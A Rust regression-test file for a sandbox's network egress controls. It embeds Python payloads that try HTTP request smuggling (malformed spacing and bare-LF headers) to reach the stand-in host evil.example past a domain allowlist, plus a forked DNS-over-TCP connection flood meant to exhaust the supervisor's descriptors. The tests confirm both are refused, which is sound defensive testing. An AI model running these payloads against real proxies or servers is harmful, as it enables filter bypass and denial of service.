//! Second adversarial review (docs/escape-tests.md, "Second review"): attacks that got
//! through once, kept as regressions. Each test runs the real binary on a payload; the
//! loopback server stands in for the declared name's real servers and records every
//! byte it receives, so "the attacker's request reached the upstream" is observed
//! directly, not inferred from the trace.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::io::{Read, Write};
use std::net::TcpListener;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use crate::escape::{Lab, Outcome};

/// An HTTP server on the host's loopback that keeps every byte it receives and
/// answers each read with a small response.
fn recording_server() -> (u16, Arc<Mutex<Vec<u8>>>) {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    let got = Arc::new(Mutex::new(Vec::new()));
    let seen = got.clone();
    std::thread::spawn(move || {
        for conn in l.incoming().take(64) {
            let Ok(mut c) = conn else { continue };
            let seen = seen.clone();
            std::thread::spawn(move || {
                let _ = c.set_read_timeout(Some(Duration::from_secs(3)));
                let mut buf = [0u8; 4096];
                while let Ok(n) = c.read(&mut buf) {
                    if n == 0 {
                        break;
                    }
                    seen.lock().unwrap().extend_from_slice(&buf[..n]);
                    let _ = c.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok");
                }
            });
        }
    });
    (port, got)
}

/// Runs `python3 /skill/atk.py PORT` with egress to `good.test:PORT` (resolved to the
/// host's loopback, allowed by a cidr rule as the rebinding check requires).
fn run_http_attack(lab: &Lab, port: u16, payload: &str) -> Outcome {
    let dir = lab.path("review2-http");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("atk.py"), payload).unwrap();
    std::fs::write(
        dir.join("skillsandbox.yaml"),
        format!(
            "skill: {{name: review2-http, version: \"0.1.0\"}}\n\
             permissions:\n  network:\n    egress:\n\
             \x20     - domain: good.test\n        ports: [{port}]\n\
             \x20     - cidr: 127.0.0.1/32\n        ports: [{port}]\n\
             resources: {{max_runtime_seconds: 60}}\n\
             entrypoint: {{command: python3, args: [/skill/atk.py, \"{port}\"]}}\n"
        ),
    )
    .unwrap();
    let hosts = lab.path("hosts");
    std::fs::write(&hosts, "127.0.0.1 good.test\n").unwrap();
    Outcome::from(
        lab.cmd()
            .env("SKILLSANDBOX_EGRESS_HOSTS", &hosts)
            .args(["run", "--json"])
            .arg(&dir)
            .output()
            .unwrap(),
    )
}

const HTTP_SMUGGLE: &str = r#"
import socket, sys, time
port = int(sys.argv[1])
cases = {
    # Two spaces before an absolute-form target: nginx skips runs of spaces and routes
    # by the absolute URI's authority, not by Host.
    "double_space_absolute_form": b"GET  http://evil.example/ HTTP/1.1\r\nHost: good.test\r\n\r\n",
    # Bare LF line endings (accepted by nginx, Go, ...): the server's request ends at
    # the first empty line and names evil.example; the sniffer saw one CRLF line.
    "bare_lf_host": b"GET / HTTP/1.1\nHost: evil.example\n\r\nHost: good.test\r\n\r\n",
    # The control: the same request in plain form is refused today.
    "plain_absolute_form": b"GET http://evil.example/ HTTP/1.1\r\nHost: good.test\r\n\r\n",
}
for name, data in cases.items():
    try:
        s = socket.create_connection(("good.test", port), timeout=5)
        s.sendall(data)
        time.sleep(0.3)
        r = s.recv(100)
        print("STEP", name, "SENT" if r else "FAIL closed")
    except OSError as e:
        print("STEP", name, "FAIL", e)
print("HTTP_DONE")
"#;

#[test]
fn http_request_heads_a_server_reads_differently_are_refused() {
    let Some(lab) = Lab::new() else { return };
    let (port, got) = recording_server();
    let o = run_http_attack(&lab, port, HTTP_SMUGGLE);
    o.assert_done("HTTP_DONE");
    let seen = String::from_utf8_lossy(&got.lock().unwrap()).into_owned();
    assert!(
        !seen.contains("evil.example"),
        "BREACH: a request for an undeclared host reached the declared name's server:\n{seen}\n{}",
        o.dump()
    );
    for step in [
        "double_space_absolute_form",
        "bare_lf_host",
        "plain_absolute_form",
    ] {
        let line = format!("STEP {step} FAIL");
        assert!(
            o.stdout.lines().any(|l| l.starts_with(&line)),
            "BREACH {step}:\n{}",
            o.dump()
        );
    }
}

const DNS_TCP_FLOOD: &str = r#"
import os, socket, time
# 8 processes x 200 idle DNS-over-TCP connections to a resolver address: each one
# is a descriptor in the supervisor (the MCP server runs every sandbox in-process).
for k in range(8):
    if os.fork() == 0:
        held = []
        for i in range(200):
            try:
                s = socket.socket()
                s.settimeout(2)
                s.connect(("9.9.9.9", 53))
                held.append(s)
            except OSError:
                break
        time.sleep(6)
        os._exit(0)
for k in range(8):
    os.wait()
print("FLOOD_DONE")
"#;

fn fd_count(pid: u32) -> usize {
    std::fs::read_dir(format!("/proc/{pid}/fd")).map_or(0, Iterator::count)
}

#[test]
fn dns_over_tcp_connections_are_bounded_like_every_other_connection() {
    let Some(lab) = Lab::new() else { return };
    let dir = lab.path("review2-dns-flood");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("flood.py"), DNS_TCP_FLOOD).unwrap();
    std::fs::write(
        dir.join("skillsandbox.yaml"),
        "skill: {name: review2-dns-flood, version: \"0.1.0\"}\n\
         permissions:\n  network:\n    egress:\n      - domain: good.test\n        ports: [443]\n\
         resources: {max_runtime_seconds: 60, max_processes: 64, max_open_files: 256}\n\
         entrypoint: {command: python3, args: [/skill/flood.py]}\n",
    )
    .unwrap();
    let mut child = lab
        .cmd()
        .args(["run", "--json"])
        .arg(&dir)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let pid = child.id();
    let mut most = 0;
    let start = std::time::Instant::now();
    while start.elapsed() < Duration::from_secs(50) {
        most = most.max(fd_count(pid));
        if child.try_wait().unwrap().is_some() {
            break;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    let o = Outcome::from(child.wait_with_output().unwrap());
    o.assert_done("FLOOD_DONE");
    // At most 1024 connections are handled at once (docs/egress.md); a few dozen
    // descriptors are the supervisor's own.
    assert!(
        most < 1024 + 64,
        "the supervisor held {most} descriptors for one sandbox's DNS-over-TCP connections:\n{}",
        o.dump()
    );
}
